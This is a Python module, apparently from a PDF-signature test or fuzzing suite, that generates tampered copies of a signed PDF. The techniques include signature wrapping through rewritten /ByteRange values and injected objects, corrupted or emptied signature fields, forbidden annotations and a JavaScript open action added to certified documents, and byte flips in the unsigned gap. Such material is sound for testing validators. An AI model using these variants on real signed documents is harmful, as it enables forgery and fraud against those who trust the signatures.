"""Attacks on the signature's own structure: wrapping, universal forgery, certification, the gap."""

import re

from attacks.surgery import Anatomy, Variants, in_place, stream, update
from attacks.updates import OVERLAY

_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\] *")


def _byte_range(it: Anatomy) -> tuple[bytes, int, int, int]:
    """The first signature's byte range: as written with its padding, and its three numbers."""
    match = _RANGE.search(it.pdf)
    assert match is not None
    before, after, length = map(int, match.groups())
    return match[0], before, after, length


def signature_wrapping(it: Anatomy) -> Variants:
    """Move the second signed part, name its new place, and put objects of one's own between."""
    written, before, after, length = _byte_range(it)
    evil = b"%d 0 obj\n%b\nendobj\n" % (it.contents, stream(it.streams[it.contents] + OVERLAY))
    for room in (1, 16, 1024, 65536):
        for filler in (b"\0", b" ", b"\n"):
            for name, injected in (("objects", evil), ("nothing", b"")):
                moved = after + len(injected) + room
                stated = b"/ByteRange [0 %d %d %d]" % (before, moved, length)
                head = it.pdf[:after].replace(written.rstrip(), stated[: len(written.rstrip())])
                tail = it.pdf[after : after + length].replace(written, stated.ljust(len(written)))
                rest = it.pdf[after + length :]
                yield f"{name}, {room} bytes of {filler!r}", head + injected + filler * room + tail + rest
    # Numbers that say something else of the same bytes.
    for name, numbers in (
        ("nothing after", b"[0 %d %d 0]" % (before, after)),
        ("nothing before", b"[0 0 %d %d]" % (after, length)),
        ("overlapping", b"[0 %d %d %d]" % (after, before, length)),
        ("negative", b"[0 -%d %d %d]" % (before, after, length)),
        ("begins later", b"[1 %d %d %d]" % (before - 1, after, length)),
        ("shorter", b"[0 %d %d %d]" % (before, after, length - 1)),
        ("longer", b"[0 %d %d %d]" % (before, after, length + 1)),
        ("a third pair", b"[0 %d %d 1 %d 1]" % (before, after, after + 1)),
        ("odd", b"[0 %d %d]" % (before, after)),
    ):
        stated = (b"/ByteRange " + numbers).ljust(len(written))
        yield f"byte range {name}", it.pdf.replace(written, stated)


def universal_forgery(it: Anatomy) -> Variants:
    """Take away or spoil what a validator needs, so that a careless one has nothing to object to."""
    written, *_ = _byte_range(it)
    span = it.container
    held = it.pdf[span.start : span.stop]
    zeros = b"<" + b"0" * (len(held) - 2) + b">"
    for name, value in (("empty", b"<>"), ("null", b"null"), ("zero", b"<00>"), ("zeros", zeros)):
        yield f"contents {name}", it.pdf.replace(held, value.ljust(len(held)))
    yield "contents gone", in_place(it.pdf, b"/Contents <", b"/C0ntents <")
    for name, value in (
        ("gone", b""), ("null", b"/ByteRange null"), ("zeros", b"/ByteRange [0 0 0 0]"),
        ("a word", b"/ByteRange /All"), ("of words", b"/ByteRange [/a /b /c /d]"),
        ("huge", b"/ByteRange [0 99999999999 1 1]"), ("real", b"/ByteRange [0.5 1.5 2.5 3.5]"),
    ):  # fmt: skip
        yield f"byte range {name}", it.pdf.replace(written, value.ljust(len(written)))
    for name, old, new in (
        ("no type", rb"/Type /Sig\b", b""),
        ("other type", rb"/Type /Sig\b", b"/Type /Sgi"),
        ("other filter", b"/Filter /Adobe.PPKLite", b"/Filter /Adobe.PPKMS"),
        ("old sub-filter", b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /adbe.pkcs7.detached"),
        ("SHA-1 sub-filter", b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /adbe.pkcs7.sha1"),
        ("time stamp's sub-filter", b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /ETSI.RFC3161"),
        ("no sub-filter", b"/SubFilter /ETSI.CAdES.detached", b""),
        ("other time", rb"20261123(?=\d{6}Z\))", b"20201123"),
    ):  # fmt: skip
        yield name, in_place(it.pdf, old, new)
    signature = it.texts[it.signature]
    for name, body in (
        ("signature without contents", b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] >>"),
        ("signature without range", b"<< /Type /Sig /Filter /Adobe.PPKLite /Contents <00> >>"),
        ("signature null", b"null"),
        ("signature a number", b"1"),
        ("signature of itself", b"%d 0 R" % it.signature),
        ("signature twice", signature + b"\n" + signature),
    ):
        yield name, update(it, {it.signature: body})


def certification(it: Anatomy) -> Variants:
    """Add what a certified document forbids: annotations, signatures, actions, weaker permissions."""
    new = it.size
    look = stream(OVERLAY, b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] ")
    kinds = (
        "FreeText", "Stamp", "Redact", "Ink", "Square", "Circle", "Highlight", "Underline", "Line", "Polygon",
        "Popup", "FileAttachment", "Link", "Widget", "Watermark", "Caret", "Text", "Screen", "3D", "Movie",
    )  # fmt: skip
    for kind in kinds:
        body = b"<< /Type /Annot /Subtype /%b /F 4 /Rect [ 0 0 595 842 ] /AP << /N %d 0 R >> >>"
        page = it.text(it.page, b"/Annots [", b"/Annots [ %d 0 R" % (new + 1))
        yield (
            f"annotation {kind}",
            update(it, {it.page: page, new: look, new + 1: body % (kind.encode(), new)}),
        )
    for name, entries in (
        ("opening script", b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        ("additional action", b" /AA << /WC << /S /JavaScript /JS (1) >> >>"),
        ("no permissions", b" /Perms << >>"),
        ("other permissions", b" /Perms << /DocMDP %d 0 R >>" % it.field),
        ("usage rights", b" /Perms << /UR3 %d 0 R >>" % it.signature),
        ("needs appearances", b" /NeedsRendering true"),
    ):
        yield name, update(it, {it.root: it.added(it.root, entries)})
    for level in (b"2", b"3", b"9"):
        yield f"permission {level.decode()}", in_place(it.pdf, rb"/P 1\b", b"/P " + level)
    yield "no transform", in_place(it.pdf, b"/TransformMethod /DocMDP", b"/TransformMethod /UR3")
    yield "no reference", in_place(it.pdf, rb"/Reference \[", b"/Referenc3 [")


def gap_flips(it: Anatomy) -> Variants:
    """Change what the signature cannot cover: the container's digits, their padding and their brackets."""
    span = it.container
    places = [*range(span.stop - 2, span.stop - 80, -7), *range(span.start + 1, span.stop - 2, 997)]
    for place in places:
        for new in (b"1", b"f", b" "):
            if it.pdf[place : place + 1] != new:
                yield f"place {place - span.start}, {new!r}", it.pdf[:place] + new + it.pdf[place + 1 :]
    lower = it.pdf[span.start : span.stop].lower()
    yield "lower case", it.pdf[: span.start] + lower + it.pdf[span.stop :]
    yield "closed early", it.pdf[: span.stop - 3] + b">00" + it.pdf[span.stop :]
    yield "no bracket", it.pdf[: span.stop - 1] + b" " + it.pdf[span.stop :]
